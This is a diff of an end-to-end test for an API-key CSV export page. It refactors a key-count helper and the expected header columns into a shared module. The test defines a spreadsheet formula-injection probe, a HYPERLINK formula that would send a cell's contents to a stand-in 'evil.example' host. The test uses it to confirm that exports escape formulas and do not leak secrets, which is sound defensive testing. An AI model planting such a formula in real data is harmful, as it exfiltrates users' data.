@@ -8,21 +8,12 @@ import {
   test,
   type Persona,
 } from './fixtures';
-import { exportView, parseCsv } from './pages/export-file';
+import { CSV_HEADER, exportView, parseCsv, viewCount } from './pages/export-file';
 import { callApi, createBody } from './pages/mock-api';
 
 /** A description that a spreadsheet would run as a formula, were it not escaped. */
 const FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Click me")';
 const PROBE = 'export-probe';
-
-/** The key count the toolbar announces ("12 keys"). */
-async function viewCount(page: Page): Promise<number> {
-  const text = await page
-    .getByRole('status')
-    .filter({ hasText: /^[\d,]+ keys?$/ })
-    .innerText();
-  return Number(text.replace(/\D/g, ''));
-}
 
 /** Creates a key of the persona's own with a formula for a description; returns its secret. */
 async function createProbe(page: Page): Promise<string> {
@@ -60,17 +51,7 @@ for (const { persona, path, file } of PAGES)
     expect(csv.name).toMatch(file);
     expect(csv.text).not.toContain(secret);
     const [header, ...lines] = parseCsv(csv.text);
-    expect(header).toEqual([
-      'Name',
-      'Description',
-      'Owner name',
-      'Owner email',
-      'Owner state',
-      'Status',
-      'Expires',
-      'Created',
-      'UID',
-    ]);
+    expect(header).toEqual(CSV_HEADER);
     expect(lines).toHaveLength(count);
     for (const line of lines) expect(['Active', 'Expiring soon']).toContain(line[5]);
     const probe = lines.find((line) => line[0] === PROBE);
